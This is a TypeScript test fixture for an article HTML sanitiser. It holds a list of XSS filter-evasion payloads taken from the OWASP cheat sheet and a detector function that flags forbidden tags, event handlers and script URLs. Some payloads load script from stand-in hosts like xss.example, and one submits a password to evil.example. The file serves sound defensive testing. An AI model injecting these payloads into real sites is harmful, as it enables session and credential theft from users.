// Test data shared by the server's and the browser's tests of the article sanitiser.

/** Representative vectors of the OWASP XSS filter-evasion cheat sheet. */
export const XSS_VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<a href="jav&#x09;ascript:alert(1)">tab</a>',
  '<a href="jav&#x0A;ascript:alert(1)">newline</a>',
  '<a href=" &#14;  javascript:alert(1)">space</a>',
  '<a href="JaVaScRiPt:alert(1)">case</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=//xss.example/.j>',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<p style="color:red">styled</p>',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<iframe src="https://evil.example/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<TD BACKGROUND="javascript:alert(\'XSS\')">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<a href="#" target="_self" rel="opener">keep text</a>',
  '<div><a href="/\\evil.example">slashes</a></div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<x onclick=alert(1)>click</x>',
  '<details open ontoggle=alert(1)>',
];

/** The part of a parsed element the check reads (jsdom's or the browser's). */
type ElementLike = {
  tagName: string;
  getAttribute(name: string): string | null;
  attributes: ArrayLike<{ name: string; value: string }>;
};
const FORBIDDEN = [
  'script',
  'style',
  'form',
  'input',
  'button',
  'object',
  'embed',
  'meta',
  'base',
  'link',
  'svg',
  'math',
  'frame',
  'frameset',
  'noscript',
];

/**
 * What must never come out of the sanitiser, found among the elements of its parsed output:
 * anything that runs, loads or submits, and links that could keep a hold on the app's tab.
 */
export function dangers(elements: ArrayLike<ElementLike>): string[] {
  const found: string[] = [];
  for (const el of Array.from(elements)) {
    const tag = el.tagName.toLowerCase();
    if (FORBIDDEN.includes(tag)) found.push(`<${tag}>`);
    if (
      tag === 'iframe' &&
      !/^https:\/\/www\.youtube(-nocookie)?\.com\/embed\//.test(el.getAttribute('src') ?? '')
    ) {
      found.push('iframe not from YouTube');
    }
    for (const { name, value } of Array.from(el.attributes)) {
      if (/^on/i.test(name) || ['style', 'srcdoc', 'background'].includes(name))
        found.push(`${tag}[${name}]`);
      const squeezed = [...value].filter((c) => c.codePointAt(0)! > 0x20).join('');
      if (/^(javascript|vbscript|data):/i.test(squeezed)) found.push(`${tag}[${name}=${value}]`);
    }
    if (
      tag === 'a' &&
      el.getAttribute('href') !== null &&
      el.getAttribute('rel') !== 'noopener noreferrer'
    ) {
      found.push('a without rel');
    }
  }
  return found;
}
